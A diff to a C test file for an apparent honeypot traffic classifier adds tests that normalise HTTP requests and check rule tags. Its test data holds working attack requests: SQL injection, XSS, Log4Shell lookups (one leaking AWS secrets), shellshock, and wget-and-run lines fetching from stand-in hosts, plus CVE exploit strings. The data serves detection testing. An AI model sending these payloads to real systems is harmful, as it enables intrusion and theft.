@@ -47,6 +47,7 @@ static void test_url(void)
 		{"%%35%63", -1, "\\"},                   /* Nimda: %5c, then '\' */
 		{"..%c0%af..%e0%80%afx", -1, "../../x"}, /* overlong '/' */
 		{"%c1%9c", -1, "\\"},                    /* overlong '\' */
+		{"..%c1%1c..", -1, "..\\.."},             /* IIS: c1 1c is also '\\' */
 		{"\xc3\xa9", -1, "\xc3\xa9"},            /* real UTF-8 kept */
 	};
 	char out[NORMALIZE_FIELD_MAX];
@@ -136,6 +137,10 @@ static void test_fields(void)
 		{"GET / HTTP/1.0\r\n\r\n", 1, NORMALIZE_VERSION, "HTTP/1.0"},
 		{"GET /x\r\n", 1, NORMALIZE_VERSION, ""},                       /* HTTP/0.9 */
 		{"XFOC / HTTP/1.1\r\n\r\n", 1, NORMALIZE_METHOD, "XFOC"},
+		{"GET /shell?cd+/tmp;wget+ http://h/a;sh+a HTTP/1.1\r\n\r\n", 1, NORMALIZE_TARGET,
+		    "/shell?cd /tmp;wget  http://h/a;sh a"},                /* a space in the target */
+		{"GET /a b\r\n", 1, NORMALIZE_TARGET, "/a b"},
+		{"GET /a HTTP/1.1 x\r\n", 1, NORMALIZE_VERSION, ""},
 		{"GET / HTTP/1.1\nUser-Agent: a%20b\nUser-Agent: c\n\n", 1, NORMALIZE_UA, "a b"},
 		{"GET / HTTP/1.1\r\nHost:  h \r\nX-A: %24%7Bx\r\n\r\n", 1, NORMALIZE_HEADERS,
 		    "Host: h\nX-A: ${x\n"},
@@ -149,6 +154,11 @@ static void test_fields(void)
 		{"POST / HTTP/1.1\r\nContent-Type: text/plain\r\nContent-Length: 7\r\n\r\na+b\0%41",
 		    1, NORMALIZE_BODY, "a+b"},                                  /* raw (strlen cut) */
 		{"POST / HTTP/1.1\r\n\r\n<?php x", 1, NORMALIZE_BODY, "<?php x"}, /* no length */
+		{"POST / HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n<a>&#36;&#x7B;jndi:x&#125; &lt;b&gt; &#; &#x; &#99999999; &zz; &amp</a>",
+		    1, NORMALIZE_BODY, "<a>${jndi:x} <b> &#; &#x; &#99999999; &zz; &amp</a>"},
+		{"POST / HTTP/1.1\r\nContent-Type: application/json\r\n\r\n"
+		    "{\"a\": \"\\u0024\\u007bjndi:ldap:\\/\\/h\\/a}\\\"\"}", 1, NORMALIZE_BODY,
+		    "{\"a\": \"${jndi:ldap://h/a}\"\"}"},
 		{"GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n\r\nHEAD /3 HTTP/1.0\r\n\r\n", 3,
 		    NORMALIZE_METHOD, "GET\nGET\nHEAD"},
 		{"GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, NORMALIZE_TARGET, "/1\n/2"},
@@ -160,6 +170,9 @@ static void test_fields(void)
 		    "Authorization: Basic JHtqbmRpOmRuczovL2gvYn0=\r\n\r\n", 1, NORMALIZE_LOG4J,
 		    "jndi:ldap://h/m\njndi:rmi://h/u\njndi:dns://h/b"},
 		{"GET / HTTP/1.1\r\nUser-Agent: jndi:ldap://h\r\n\r\n", 1, NORMALIZE_LOG4J, ""},
+		{"GET / HTTP/1.1\r\nX: ${jndi:ldap://h:1389/Basic/Command/Base64/d2dldCBodHRwOi8vaC94fHNo}\r\n\r\n",
+		    1, NORMALIZE_LOG4J, "jndi:ldap://h:1389/Basic/Command/Base64/d2dldCBodHRwOi8vaC94fHNo\n"
+		    "wget http://h/x|sh"},
 		{"\x16\x03\x01\x02\x00\x01", 0, NORMALIZE_METHOD, ""},        /* TLS: not HTTP */
 		{"hello world\r\n", 0, NORMALIZE_TARGET, ""},
 		{"GET\r\n\r\n", 0, NORMALIZE_METHOD, ""},
@@ -198,6 +211,28 @@ static void test_caps(void)
 		CHECK(z.len[f] < NORMALIZE_FIELD_MAX && strlen(z.field[f]) == z.len[f],
 		    "%s: %zu", normalize_names[f], z.len[f]);
 	CHECK(z.len[NORMALIZE_TARGET] >= NORMALIZE_FIELD_MAX - 3, "target cut at the cap");
+	/* A lookup after the headers field is full still reaches http_log4j. */
+	size_t o = 0;
+	o += (size_t)sprintf(big + o, "GET / HTTP/1.1\r\n");
+	for (int i = 0; i < 300; i++)
+		o += (size_t)sprintf(big + o, "Cookie: c%d=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n", i);
+	o += (size_t)sprintf(big + o, "X: ${${::-j}ndi:ldap://h/late}\r\n\r\n");
+	normalize_payload(&z, (uint8_t *)big, o);
+	CHECK(z.len[NORMALIZE_HEADERS] >= NORMALIZE_FIELD_MAX - 64, "headers full: %zu",
+	    z.len[NORMALIZE_HEADERS]);
+	CHECK(strcmp(z.field[NORMALIZE_LOG4J], "jndi:ldap://h/late") == 0, "late lookup: %s",
+	    z.field[NORMALIZE_LOG4J]);
+	/* Nested past the depth cap: the skeleton still shows the jndi. */
+	o = (size_t)sprintf(big, "GET / HTTP/1.1\r\nX: ");
+	for (int i = 0; i < 20; i++)
+		o += (size_t)sprintf(big + o, "${::-");
+	o += (size_t)sprintf(big + o, "${${::-j}${lower:N}di:ldap://h/deep}");
+	for (int i = 0; i < 20; i++)
+		o += (size_t)sprintf(big + o, "}");
+	o += (size_t)sprintf(big + o, "\r\n\r\n");
+	normalize_payload(&z, (uint8_t *)big, o);
+	CHECK(strstr(z.field[NORMALIZE_LOG4J], "\njNdi:ldap://h/deep") != NULL, "deep: %s",
+	    z.field[NORMALIZE_LOG4J]);
 	/* Many requests: counted up to the cap. */
 	static const char req[] = "GET / HTTP/1.1\r\n\r\n";
 	size_t n = len / (sizeof(req) - 1);
@@ -275,6 +310,118 @@ static void test_externals(void)
 	classify_close(c);
 }
 
+/* rules/techniques.yar: each technique from a request written here, and
+ * ordinary browsing tagged with nothing. */
+static void test_techniques(void)
+{
+	static const struct {
+		const char *payload, *want;
+	} cases[] = {
+		{"GET /item.php?id=1%27%20UNION%20SELECT%201,2,@@version-- HTTP/1.1\r\n\r\n", "sqli"},
+		{"GET /?id=1'+or+'1'='1 HTTP/1.1\r\n\r\n", "sqli"},
+		{"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+		    "Content-Length: 33\r\n\r\nuser=a%27%3BWAITFOR+DELAY+%270:0:5", "sqli"},
+		{"GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\n\r\n", "xss"},
+		{"GET / HTTP/1.1\r\nReferer: \"><img src=x onerror=prompt(1)>\r\n\r\n", "xss"},
+		{"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws HTTP/1.1\r\n\r\n",
+		    "rce"},
+		{"GET /cgi-bin/x?a=$(id) HTTP/1.1\r\n\r\n", "rce"},
+		{"GET /index.php?page=/etc/passwd HTTP/1.1\r\n\r\n", "lfi"},
+		{"GET /?f=php://filter/convert.base64-encode/resource=index HTTP/1.1\r\n\r\n", "lfi"},
+		{"GET /index.php?page=http://192.0.2.1/shell.txt? HTTP/1.1\r\n\r\n", "rfi"},
+		{"GET /?include=https://192.0.2.1/c99.php HTTP/1.1\r\n\r\n", "rfi"},
+		{"POST /index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input HTTP/1.1\r\n"
+		    "Content-Length: 20\r\n\r\n<?php echo md5(1);?>", "php-injection"},
+		{"POST /api HTTP/1.1\r\nContent-Length: 12\r\n\r\nrO0ABXNyABdq", "java-deserialization"},
+		{"GET / HTTP/1.1\r\nUser-Agent: jndi:ldap://192.0.2.1:1389/a\r\n\r\n", "jndi"},
+		{"GET / HTTP/1.1\r\nX-Api-Version: ${${::-j}${lower:N}di:ldap://h/a}\r\n\r\n",
+		    "cve-2021-44228,jndi"},
+		{"GET /?x=%24%7Bjndi:dns://h/a%7D HTTP/1.1\r\n\r\n", "cve-2021-44228,jndi"},
+		{"${jndi:ldap://h/a} / HTTP/1.1\r\n\r\n", "cve-2021-44228,jndi"},
+		{"GET / HTTP/1.1\r\nAuthorization: Basic JHtqbmRpOmxkYXA6Ly9oL2F9OnA=\r\n\r\n",
+		    "cve-2021-44228,jndi"},
+		{"GET / HTTP/1.1\r\nX: ${jndi:ldap://h/${env:AWS_SECRET_ACCESS_KEY}}\r\n\r\n",
+		    "cve-2021-44228,jndi,jndi-exfil"},
+		{"GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; echo; /bin/bash -c id\r\n\r\n",
+		    "cve-2014-6271,rce,shellshock"},
+		{"GET /..%252f..%252f..%252fwinnt/system.ini HTTP/1.1\r\n\r\n", "path-traversal"},
+		{"GET /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n",
+		    "path-traversal,rce"},
+		{"GET /download?file=..\\..\\boot.ini HTTP/1.1\r\n\r\n", "lfi,path-traversal"},
+		{"GET / HTTP/1.1\r\nContent-Type: %{(#_='multipart/form-data').(#_memberAccess=x)}\r\n\r\n",
+		    "cve-2017-5638"},
+		{"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n"
+		    "Content-Length: 13\r\n\r\n<?php echo 1;", "cve-2017-9841,php-injection"},
+		{"GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array"
+		    "&vars[0]=md5&vars[1][]=1 HTTP/1.1\r\n\r\n", "cve-2018-20062,php-injection"},
+		{"GET /console/css/%252e%252e%252fconsole.portal HTTP/1.1\r\n\r\n",
+		    "cve-2020-14882,path-traversal"},
+		{"GET /console/css/%252e%252e%252fconsole.portal?_nfpb=true&handle="
+		    "com.tangosol.coherence.mvel2.sh.ShellSession(%22x%22) HTTP/1.1\r\n\r\n",
+		    "cve-2020-14882,cve-2020-14883,path-traversal"},
+		{"POST /wls-wsat/CoordinatorPortType HTTP/1.1\r\nContent-Length: 60\r\n\r\n"
+		    "<java version=\"1\" class=\"java.beans.XMLDecoder\">", "cve-2017-10271"},
+		{"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\nXWebPageName=diag", "cve-2018-10561"},
+		{"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 40\r\n\r\n"
+		    "<NewStatusURL>$(/bin/busybox wget -g 1)</NewStatusURL>", "cve-2017-17215,rce"},
+		{"GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\n\r\n",
+		    "cve-2021-41773,path-traversal,rce"},
+		{"GET /icons/.%%32%65/.%%32%65/etc/passwd HTTP/1.1\r\n\r\n",
+		    "cve-2021-41773,lfi,path-traversal"},
+		{"GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\r\n\r\n", "cve-2019-19781,path-traversal"},
+		{"GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1\r\n\r\n",
+		    "cve-2018-13379,path-traversal"},
+		{"GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1\r\n\r\n",
+		    "cve-2022-22965"},
+		{"GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/ HTTP/1.1\r\n\r\n",
+		    "cve-2022-26134"},
+		{"POST /user/register?element_parents=account/mail/%23value&ajax_form=1 HTTP/1.1\r\n"
+		    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 40\r\n\r\n"
+		    "mail[%23post_render][]=exec&mail[a]=id", "cve-2018-7600"},
+		{"GET / HTTP/1.1\r\nProxy: http://192.0.2.1:8080\r\n\r\n", "cve-2016-5385"},
+		{"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) HTTP/1.1\r\n\r\n",
+		    "cve-2023-1389,rce"},
+		/* Ordinary browsing: nothing. */
+		{"GET / HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; "
+		    "rv:109.0) Gecko/20100101 Firefox/115.0\r\nAccept: text/html,application/xhtml+xml,"
+		    "*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br\r\n"
+		    "Cookie: _ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9\r\n"
+		    "Connection: keep-alive\r\n\r\n", ""},
+		{"GET /search?q=select+a+shirt+and+order+by+size&page=2 HTTP/1.1\r\nHost: shop\r\n"
+		    "Referer: https://shop.example/?utm_source=mail&utm_medium=email\r\n\r\n", ""},
+		{"GET /static/js/app.min.js?v=3.2.1 HTTP/1.1\r\nHost: h\r\nIf-None-Match: \"abc\"\r\n\r\n", ""},
+		{"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+		    "Content-Length: 36\r\n\r\nusername=alice&password=p%40ss+word", ""},
+		{"POST /api/v1/items HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 44\r\n\r\n"
+		    "{\"name\": \"lamp (red)\", \"price\": 12.5, \"q\": 1}", ""},
+		{"GET /wiki/Special:Search?search=%E2%82%AC+and+%C3%A9&go=Go HTTP/1.1\r\n\r\n", ""},
+		{"GET /robots.txt HTTP/1.1\r\nHost: h\r\nUser-Agent: curl/7.88.1\r\n\r\n", ""},
+		{"OPTIONS * HTTP/1.1\r\nHost: h\r\n\r\n", ""},
+		{"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", ""},
+	};
+	char err[256];
+	struct classify *c = classify_open(FLYPAPER_RULES_DIR "/techniques.yar", NULL, err,
+	    sizeof(err));
+
+	CHECK(c != NULL, "techniques.yar compiles: %s", err);
+	if (!c)
+		return;
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct classify_result res;
+		int n = classify_scan(c, (const uint8_t *)cases[i].payload,
+		    strlen(cases[i].payload), &res);
+		CHECK(n == 0 && strcmp(res.tags, cases[i].want) == 0,
+		    "case %zu: %d matches, tags \"%s\", want \"%s\"", i, n, res.tags, cases[i].want);
+	}
+	/* Raw bytes with NULs: a serialised object's magic. */
+	static const char ser[] = "POST /api HTTP/1.1\r\nContent-Length: 8\r\n\r\n"
+	    "\xac\xed\x00\x05sr\x00\x17";
+	struct classify_result res;
+	classify_scan(c, (const uint8_t *)ser, sizeof(ser) - 1, &res);
+	CHECK(strcmp(res.tags, "java-deserialization") == 0, "raw: tags \"%s\"", res.tags);
+	classify_close(c);
+}
+
 void test_normalize(int *passed, int *failed)
 {
 	nz_passed = passed;
@@ -284,4 +431,5 @@ void test_normalize(int *passed, int *failed)
 	test_fields();
 	test_caps();
 	test_externals();
+	test_techniques();
 }
